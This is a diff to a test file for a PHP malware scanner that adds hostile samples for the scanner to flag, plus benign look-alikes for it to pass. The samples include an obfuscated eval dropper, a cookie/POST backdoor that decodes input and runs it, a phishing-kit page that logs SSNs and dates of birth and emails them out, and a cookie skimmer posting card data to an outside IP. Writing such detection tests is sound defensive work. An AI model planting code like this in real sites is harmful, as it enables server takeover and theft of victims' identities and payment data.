@@ -207,6 +207,66 @@ try {
 try { if (strpos(hex2bin($_COOKIE[hex2bin('${hex('_abc')}')]), hex2bin('${hex('card')}')) !== false) { @file_get_contents(hex2bin('${hex('https://198.51.100.7/')}'), false, stream_context_create(array('http' => array('method' => 'POST', 'header' => "Content-type: application/x-www-form-urlencoded\r\n", 'content' => http_build_query(array('t' => base64_encode($_COOKIE[hex2bin('${hex('_abc')}')]))))))); setcookie(hex2bin('${hex('_abc')}'), '', time() - 1, '/'); } } catch (Exception $e) {}
 `,
   ],
+  [
+    'a dropper naming call_user_func_array and create_function by a joiner function of three parameters over letters of a string, the body closing itself around an eval (H57)',
+    '/srv/www/images/hi.php',
+    `<?php $T = "4eg03(pm)b6.fnwvsic5hz;y1u82xqo9/j_ka7dtrl*";function jn3($g,$c,$f){return ''.$g.''.$c.''.$f.'';}
+${(() => {
+  const T = '4eg03(pm)b6.fnwvsic5hz;y1u82xqo9/j_ka7dtrl*';
+  const at = (c: string) => `$T[${T.indexOf(c)}]`;
+  const name = (v: string, w: string) => { const parts: string[] = []; for (let i = 0; i < w.length; i += 3) parts.push(`jn3(${[...w.slice(i, i + 3).padEnd(3, ' ')].map((c) => (c === ' ' ? "''" : at(c))).join(',')})`); return `$${v} = ${parts.reduce((a, b) => `jn3(${a},${b},'')`)};`; };
+  return [name('c', 'call_user_func_array'), name('f', 'create_function')].join('\n');
+})()}
+$b = 'eval(gzinflate(base64_decode("${Buffer.from('stand-in').toString('base64')}")));';
+$c($f, array('', '}' . $b . '//'));
+`,
+  ],
+  [
+    'the cookie-and-POST backdoor with names from a picker loop, its exit() in a function written above the require (H57)',
+    '/srv/www/m/img/themes.php',
+    `<?php
+function pk($idx) { $t = "/v<;* hTSNwlmE_6su1(j@rtDk.)?ieLMbfAFcIp4dyaPx5UnY['ogK#]H"; $o = ''; $i = 0; while (1) { if ($i >= count($idx)) break; $o .= $t[$idx[$i]]; $i++; } return $o; }
+$n = array('merge' => pk(array(43, 22, 22, 43, 42, 14, 12, 30, 22, 53, 30)), 'hexin' => pk(array(33, 43, 16, 30, 15, 40, 14, 41, 30, 37, 52, 41, 30)));
+$all = $_COOKIE;
+$all = $n['merge']($all, $_POST);
+function mixk($a, $b) { return $a ^ str_repeat($b, (strlen($a) / strlen($b)) + 1); }
+function quit() { exit(); }
+function runf($path) { @require ($path); quit(); }
+foreach ($all as $k => $v) {
+  $plain = mixk(base64_decode($v), $k);
+  $parts = explode('#', $plain);
+  if (count($parts) == 3) { $p = sys_get_temp_dir() . '/' . md5($k); file_put_contents($p, '<?php ' . $parts[1]($parts[2])); runf($p); }
+}
+`,
+  ],
+  [
+    'a phishing kit\'s billing step planted under images/: SSN and date of birth written to a text file and mailed to the mailbox of its config, the visitor sent on (H57)',
+    '/srv/www/images/license/bank/Mail/Mail4.php',
+    `<?php
+session_start();
+if (isset($_POST['address1']) && isset($_POST['ssn'])) {
+  include '../config.php';
+  $m = "--- BILLING ---\r\nAddress: {$_POST['address1']}\r\nCity: {$_POST['city']}\r\nSSN: {$_POST['ssn']}\r\nDOB: {$_POST['dob']}\r\n";
+  $m .= "IP: {$_SERVER['REMOTE_ADDR']}\r\nUA: {$_SERVER['HTTP_USER_AGENT']}\r\n";
+  $f = fopen("../rez/billing.txt", "a+");
+  fwrite($f, $m);
+  fclose($f);
+  @mail($your_email, "BILLING from {$_SERVER['REMOTE_ADDR']}", $m, "From: kit <kit@example.net>\r\n");
+  exit(header("Location: ../../thanks.php"));
+}
+`,
+  ],
+  [
+    'a CMS module given two lines near its end: a PHP file of a repository\'s raw view fetched and printed into the page (H58)',
+    '/srv/www/modul/home/mod_home.php',
+    `<div class="news"><?php foreach ($rows as $row) { ?><h5><?php echo htmlspecialchars($row['title']); ?></h5><?php } ?>
+<?php
+$a = file_get_contents('https://raw.githubusercontent.com/someone/links/master/list(2).php');
+echo $a;
+?>
+</div>
+`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -289,6 +349,38 @@ $cmp = create_function('$a, $b', 'return strcmp($a["name"], $b["name"]);');
 usort($items, $cmp);
 `,
   ],
+  [
+    'a docs page rendering a project\'s README from its repository\'s raw view as Markdown',
+    '/srv/app/docs.php',
+    `<?php
+$md = file_get_contents('https://raw.githubusercontent.com/example/project/main/README.md');
+echo (new Parsedown())->text($md);
+`,
+  ],
+  [
+    'a code generator writing a JavaScript function whose body closes and comments, with no create_function',
+    '/srv/app/gen.php',
+    `<?php
+$body = 'return a + b;';
+$js = 'function add(a, b) {' . $body . '}' . "\n" . '}' . $body . '//' . "\n";
+file_put_contents(__DIR__ . '/out/add.js', $js);
+`,
+  ],
+  [
+    'a loan enquiry form mailing the office, keeping a log, sending the visitor on, with no secret field',
+    '/srv/app/enquiry.php',
+    `<?php
+include 'config.php';
+if (isset($_POST['name'])) {
+  $m = "Name: {$_POST['name']}\nPhone: {$_POST['phone']}\nDOB: {$_POST['dob']}\nIP: {$_SERVER['REMOTE_ADDR']}\n";
+  $f = fopen('logs/enquiries.txt', 'a');
+  fwrite($f, $m);
+  fclose($f);
+  mail($office_email, 'Enquiry', $m);
+  header('Location: thanks.html');
+}
+`,
+  ],
 ];
 
 describe('scan: session 45 samples, the misses written again', () => {
@@ -298,12 +390,12 @@ describe('scan: session 45 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 13));
+  it('ran every page', () => assert.equal(PAGES.length, 17));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 10));
 });
